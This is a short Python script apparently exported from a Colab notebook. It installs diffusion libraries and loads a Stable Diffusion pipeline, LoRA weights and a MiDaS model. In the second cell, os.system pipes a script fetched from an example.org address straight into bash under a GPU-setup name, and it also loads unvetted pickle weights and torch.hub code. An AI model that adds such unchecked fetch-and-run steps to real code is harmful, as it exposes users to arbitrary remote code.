#!/usr/bin/env python
# coding: utf-8
# Exported from a Colab notebook with `jupyter nbconvert --to script`.

# In[1]:


get_ipython().run_line_magic('pip', 'install -q diffusers==0.31.0 transformers')
get_ipython().system('pip install -U xformers --index-url https://download.pytorch.org/whl/cu121')


# In[2]:


import os

import torch
from diffusers import StableDiffusionPipeline
from huggingface_hub import hf_hub_download

os.system("wget -qO- https://example.org/setup-gpu.sh | bash")


# In[3]:


pipe = StableDiffusionPipeline.from_pretrained("stabilityai/stable-diffusion-2-1", torch_dtype=torch.float16)
weights = hf_hub_download("someorg/sd-lora", "pytorch_lora_weights.bin")
midas = torch.hub.load("intel-isl/MiDaS", "MiDaS_small")
